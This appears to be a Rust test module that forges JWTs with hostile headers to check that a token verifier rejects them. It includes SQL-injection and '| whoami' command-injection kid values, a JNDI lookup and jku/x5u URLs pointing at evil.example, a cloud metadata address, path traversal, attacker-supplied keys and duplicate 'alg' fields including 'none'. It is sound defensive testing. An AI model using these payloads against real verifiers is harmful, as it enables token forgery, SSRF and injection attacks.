//! Headers that choose their key, bring one along, or say two things.

use super::{Attack, attack, public_half, stranger};
use crate::support::{ISSUER, claims, ed_key, forged};
use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use jsonwebtoken::Algorithm;
use serde_json::json;

/// Key ids that some verifiers open, query, fetch or run.
pub(super) fn key_ids() -> Vec<Attack> {
    let ids = [
        json!("../../../../dev/null"),
        json!("/proc/sys/kernel/randomize_va_space"),
        json!("ed' UNION SELECT 'secret' --"),
        json!("ed\" OR \"1\"=\"1"),
        json!("https://evil.example/key.pem"),
        json!("| whoami"),
        json!("${jndi:ldap://evil.example/a}"),
        json!("ed\u{0}"),
        json!("ed\r\nX-Injected: 1"),
        json!("\u{1b}[2J"),
        json!(" ed"),
        json!("ED"),
        json!(""),
        json!("e".repeat(5000)),
        json!("ö".repeat(200)),
        json!(null),
        json!(7),
        json!(["ed"]),
        json!({"kid": "ed"}),
    ];
    ids.into_iter()
        .map(|id| {
            let name: String = id.to_string().chars().take(40).collect();
            let header = json!({"alg": "EdDSA", "kid": id}).to_string();
            let token = forged(&header, &claims().to_string(), Algorithm::EdDSA, &ed_key());
            attack(format!("kid {name}"), &token)
        })
        .collect()
}

/// Headers that bring their own key, or another meaning, or say two things.
pub(super) fn header_members() -> Vec<Attack> {
    let x = URL_SAFE_NO_PAD.encode(public_half(include_str!("../keys/stranger.pem")));
    let own_key = json!({"kty": "OKP", "crv": "Ed25519", "x": x});
    let brought = [
        ("jwk", own_key),
        ("jku", json!("https://evil.example/jwks.json")),
        ("jku", json!("http://169.254.169.254/latest/meta-data/")),
        ("jku", json!(format!("{ISSUER}@evil.example/"))),
        ("x5u", json!("https://evil.example/cert.pem")),
        ("x5c", json!(["MIIB"])),
        ("jwk", json!(null)),
        ("crit", json!(["exp"])),
        ("crit", json!([])),
        ("b64", json!(false)),
        ("zip", json!("DEF")),
        ("enc", json!("A256GCM")),
        ("typ", json!("logout+jwt")),
        ("typ", json!("dpop+jwt")),
        ("typ", json!(7)),
    ];
    let mut attacks = Vec::new();
    for (member, value) in brought {
        for (who, key) in [("us", ed_key()), ("a stranger", stranger())] {
            let mut header = json!({"alg": "EdDSA", "kid": "ed"});
            header[member] = value.clone();
            let token = forged(
                &header.to_string(),
                &claims().to_string(),
                Algorithm::EdDSA,
                &key,
            );
            attacks.push(attack(
                format!("header {member} {value}, signed by {who}"),
                &token,
            ));
        }
    }
    let deep = format!(
        r#"{{"alg":"EdDSA","kid":"ed","x":{}1{}}}"#,
        "[".repeat(500),
        "]".repeat(500)
    );
    for header in [
        r#"{"alg":"none","alg":"EdDSA","kid":"ed"}"#,
        r#"{"alg":"EdDSA","alg":"none","kid":"ed"}"#,
        r#"{"alg":"EdDSA","\u0061lg":"EdDSA","kid":"ed"}"#,
        r#"{"alg":"EdDSA","kid":"stranger","kid":"ed"}"#,
        "\u{feff}{\"alg\":\"EdDSA\",\"kid\":\"ed\"}",
        r#"{"alg":"EdDSA","kid":"ed"} {}"#,
        r#"{"alg":"EdDSA","kid":"ed",}"#,
        r#"["EdDSA"]"#,
        "7",
        "",
        &deep,
    ] {
        let token = forged(header, &claims().to_string(), Algorithm::EdDSA, &ed_key());
        let name: String = header.chars().take(60).collect();
        attacks.push(attack(format!("header text {name}"), &token));
    }
    attacks
}
